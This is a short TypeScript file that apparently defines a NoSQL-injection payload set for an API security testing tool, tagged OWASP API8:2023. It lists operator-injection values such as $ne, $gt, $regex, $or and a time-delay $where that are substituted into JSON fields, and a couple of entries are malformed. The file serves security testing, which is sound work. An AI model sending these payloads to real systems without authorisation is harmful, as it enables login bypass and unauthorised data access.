import { definePayload } from '../world/payloads.ts'

export default definePayload({
  id: 'injection-nosql',
  title: 'operators of a database in the place of values',
  owasp: ['API8:2023'],
  inputs: ['json'],
  values: [
    '{"name":{"$ne":null}}',
    '{"name":{"$gt":""}}',
    '{"phone":{"$regex":"^+49"}}',
    '{"name":{"$where":"sleep(3000)"}}',
    '{"$or":[{},{"name":"x"}]}',
    '{"phone":{"$in":["","0"]}}',
    '{"name":{"$exists":true}}',
    '{"name":{"$nin":[#]}}',
  ],
})
